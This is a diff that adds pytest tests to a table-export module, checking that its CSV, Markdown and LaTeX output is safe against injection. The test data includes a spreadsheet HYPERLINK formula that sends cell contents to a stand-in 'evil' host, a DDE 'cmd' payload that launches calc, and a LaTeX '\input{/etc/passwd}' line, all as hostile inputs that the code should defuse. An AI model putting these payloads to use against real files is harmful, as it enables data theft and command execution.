@@ -1,5 +1,6 @@
 """Tables: what each kind of column shows, and the forms a table takes."""
 
+import csv
 import json
 import math
 from collections.abc import Callable
@@ -10,6 +11,7 @@ from typing import Any
 import numpy as np
 import pandas as pd
 import pytest
+from markdown_it import MarkdownIt
 from rich.console import Console
 
 from thoughttrace.analysis.page.table import (
@@ -174,6 +176,45 @@ def test_the_csv_holds_nested_values_counts_and_hostile_text(tmp_path: Path) -> 
     assert json.loads(read["other"][0]) == [["user", "hi"]]
     assert json.loads(read["other"][2])[0]["word"] == "inner"
     assert json.loads(read["by_type"][0]) == {"a": 3}
+
+
+@pytest.mark.parametrize(
+    ("words", "cell"),
+    [
+        ('=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\n=1"),
+        ("a\r=1", "a\n=1"),
+        ("＝1", "'＝1"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_no_text_in_a_csv_is_a_formula(words: str, cell: str, tmp_path: Path) -> None:
+    Table([Row(words, -2.5, words), Row(words, None, 3)], []).to_csv(tmp_path / "a.csv")
+    with (tmp_path / "a.csv").open(newline="", encoding="utf-8") as file:
+        first, second = csv.DictReader(file)
+    assert (first["word"], first["other"], second["word"]) == (cell, cell, cell)
+    assert (first["value"], second["other"]) == ("-2.5", "3")
+
+
+@pytest.mark.parametrize("words", ["a|b", "a\\|b", "a\\\\|b", "\\", "a|", "`a|b`", "a\r\n|b"])
+def test_a_row_in_markdown_has_as_many_cells_as_there_are_columns(words: str) -> None:
+    table = Table([Row(words, 1)], [name(words, "word"), number("Value", "value")])
+    tokens = MarkdownIt("commonmark").enable("table").parse(table.to_markdown())
+    kinds = [token.type for token in tokens]
+    assert (kinds.count("th_open"), kinds.count("td_open")) == (2, 2)
+    shown = [token.children[0].content for token in tokens if token.type == "inline" and token.children]
+    assert shown[-1] == "1.00"
+
+
+@pytest.mark.parametrize("end", ["\n", "\r\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029"])
+def test_no_line_of_a_latex_note_leaves_the_comment(end: str) -> None:
+    latex = Table([Row("a")], [name("Word", "word")]).to_latex(f"One.{end}\\input{{/etc/passwd}}")
+    assert [line[:1] for line in latex.splitlines() if "passwd" in line] == ["%"]
 
 
 def test_markdown_keeps_its_cells_apart() -> None:
